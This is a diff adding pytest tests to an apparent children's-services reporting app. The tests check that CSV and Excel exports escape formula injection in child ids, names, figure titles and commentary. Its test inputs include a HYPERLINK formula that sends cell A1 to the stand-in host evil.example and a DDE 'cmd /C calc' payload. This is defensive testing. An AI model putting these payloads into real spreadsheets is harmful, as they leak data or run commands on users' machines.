@@ -28,6 +28,7 @@ PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
         ("@SUM(A1)", "'@SUM(A1)"),
         ("\t=1", "'\t=1"),
         ("\r=1", "'\r=1"),
+        ("\n=1", "'\n=1"),
         ("Jamie", "Jamie"),
         ("O'Neil = friend", "O'Neil = friend"),
         (None, ""),
@@ -74,3 +75,103 @@ def test_schedule_csv_escapes_a_chairs_name(login, team_manager, iro_allocated):
     rows = list(csv.reader(io.StringIO(response.content.decode())))
     assert len(rows) == 2
     assert rows[1][3] == "'=cmd|' /C calc'!A0 Adeyemi"
+
+
+# --- Reports and returns: every spreadsheet export goes through iro.exports ---------------------
+
+SHORT = "=HYPERLINK(1)"  # fits a child's LA id (20 characters)
+
+
+def _cells(content: bytes) -> list:
+    book = load_workbook(io.BytesIO(content))
+    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+
+
+def _no_formulas(content: bytes) -> list:
+    """Every cell of the workbook; fails if one is a formula or text that a spreadsheet runs."""
+    cells = _cells(content)
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    texts = [c.value for c in cells if isinstance(c.value, str)]
+    assert not [t for t in texts if t.startswith(("=", "+", "@", "\t", "\r", "\n"))], texts
+    return [c.value for c in cells]
+
+
+def _csv_cells(content: bytes) -> list[str]:
+    rows = list(csv.reader(io.StringIO(content.decode())))
+    cells = [cell for row in rows for cell in row]
+    assert not [c for c in cells if c.startswith(("=", "+", "@"))]
+    return cells
+
+
+@pytest.fixture
+def report_figures():
+    from reporting.figures import REGISTRY
+    from tests.reporting.conftest import TEST_IDS, _register
+
+    _register()
+    yield
+    for fid in TEST_IDS:
+        REGISTRY.pop(fid, None)
+
+
+def test_annual_report_exports_escape_a_childs_id(report_figures, performance_officer, login):
+    from tests.iro.factories import CareEpisodeFactory
+
+    child = ChildFactory(la_child_id=SHORT, first_name=PAYLOAD)
+    CareEpisodeFactory(child=child, start=date(2024, 5, 1))
+    client = login(performance_officer)
+    values = _no_formulas(client.get(reverse("reporting:annual-xlsx", args=[2024])).content)
+    assert "'" + SHORT in values and SHORT not in values
+    cells = _csv_cells(client.get(reverse("reporting:annual-csv", args=[2024])).content)
+    assert "'" + SHORT in cells and SHORT not in cells
+
+
+def test_scorecard_xlsx_escapes_a_figure_title(report_figures, performance_officer, login):
+    from reporting import dashboards
+    from reporting.figures import REGISTRY
+
+    REGISTRY["TST-01"].title = PAYLOAD  # a local title typed by someone
+    try:
+        original = dashboards.SCORECARD
+        dashboards.SCORECARD = ["TST-01"]
+        response = login(performance_officer).get(
+            reverse("reporting:scorecard-xlsx"), {"end": "2025-03"}
+        )
+    finally:
+        dashboards.SCORECARD = original
+        REGISTRY["TST-01"].title = "Test starters"
+    values = _no_formulas(response.content)
+    assert "TST-01 " + PAYLOAD in values  # the id first: nothing for a spreadsheet to run
+
+
+def test_snapshot_xlsx_escapes_the_managers_commentary(team_manager, board_member, login):
+    from reporting.services import snapshot_publish
+
+    snapshot = snapshot_publish(
+        kind="dashboard",
+        by=team_manager,
+        as_at=date(2025, 3, 31),
+        commentary={"children_in_care": PAYLOAD, "reviews": "-1 on last year"},
+    )
+    for user in (team_manager, board_member):
+        response = login(user).get(reverse("reporting:snapshot-xlsx", args=[snapshot.pk]))
+        values = _no_formulas(response.content)
+        assert "'" + PAYLOAD in values and "'-1 on last year" in values
+        assert "no-store" in response["Cache-Control"]
+
+
+def test_annex_a_escapes_a_child_and_a_worker(performance_officer, iro_allocated, login):
+    from tests.iro.factories import CareEpisodeFactory
+
+    iro_allocated.first_name = PAYLOAD
+    iro_allocated.save()
+    child = ChildFactory(la_child_id=SHORT, first_name=PAYLOAD, date_of_birth=date(2012, 1, 1))
+    CareEpisodeFactory(child=child, start=date(2024, 6, 1))
+    AllocationFactory(child=child, iro=iro_allocated)
+    response = login(performance_officer).get(
+        reverse("reporting:returns-annex-a") + "?on=2025-03-31"
+    )
+    values = _no_formulas(response.content)
+    assert "'" + SHORT in values
+    assert any(isinstance(v, str) and v.startswith("'" + PAYLOAD) for v in values)
+    assert "no-store" in response["Cache-Control"]
